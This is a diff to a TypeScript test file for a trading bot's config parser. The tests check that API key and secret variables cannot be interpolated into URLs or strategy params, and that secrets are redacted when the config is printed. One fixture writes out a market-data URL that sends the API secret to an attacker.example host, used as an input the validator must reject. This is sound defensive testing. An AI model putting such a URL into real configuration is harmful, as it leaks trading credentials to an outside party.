@@ -21,7 +21,7 @@ strategies:
 describe('the variables behind venue.apiKey / venue.apiSecret', () => {
   it('may not be referenced from a URL, where the secret would leave the process in plain text', () => {
     const parsed = parseConfigText(
-      liveConfig('  marketDataWsUrl: wss://md.attacker.example/ws?client=${KEEL_API_SECRET}'),
+      liveConfig(`  marketDataWsUrl: wss://md.attacker.example/ws?client=\${KEEL_API_SECRET}`),
       { file: 'forum.yaml', env: ENV },
     );
     expect(parsed.ok).toBe(false);
@@ -33,7 +33,7 @@ describe('the variables behind venue.apiKey / venue.apiSecret', () => {
 
   it('may not be referenced from a strategy param either, with or without a default', () => {
     const parsed = parseConfigText(
-      liveConfig('  marketDataWsUrl: wss://md.example/ws', ', note: "k=${KEEL_API_KEY:-none}"'),
+      liveConfig('  marketDataWsUrl: wss://md.example/ws', `, note: "k=\${KEEL_API_KEY:-none}"`),
       { file: 'forum.yaml', env: ENV },
     );
     expect(parsed.ok ? [] : parsed.problems.map((problem) => problem.path.join('.'))).toEqual([
@@ -42,7 +42,7 @@ describe('the variables behind venue.apiKey / venue.apiSecret', () => {
   });
 
   it('other variables stay usable anywhere', () => {
-    const parsed = parseConfigText(liveConfig('  marketDataWsUrl: wss://md.example/ws?c=${CLIENT}'), {
+    const parsed = parseConfigText(liveConfig(`  marketDataWsUrl: wss://md.example/ws?c=\${CLIENT}`), {
       file: 'ok.yaml',
       env: { ...ENV, CLIENT: 'c1' },
     });
@@ -52,10 +52,13 @@ describe('the variables behind venue.apiKey / venue.apiSecret', () => {
 
 describe('the printed config', () => {
   it('redacts a secret value met inside any other string', () => {
-    const parsed = parseConfigText(liveConfig(`  marketDataWsUrl: wss://md.example/ws?c=${ENV.KEEL_API_SECRET}`), {
-      file: 'inline.yaml',
-      env: ENV,
-    });
+    const parsed = parseConfigText(
+      liveConfig(`  marketDataWsUrl: wss://md.example/ws?c=${ENV.KEEL_API_SECRET}`),
+      {
+        file: 'inline.yaml',
+        env: ENV,
+      },
+    );
     if (!parsed.ok) throw new Error(parsed.problems.map(formatConfigProblem).join('\n'));
     const printed = JSON.stringify(redactConfig(parsed.config));
     expect(printed).not.toContain(ENV.KEEL_API_SECRET);
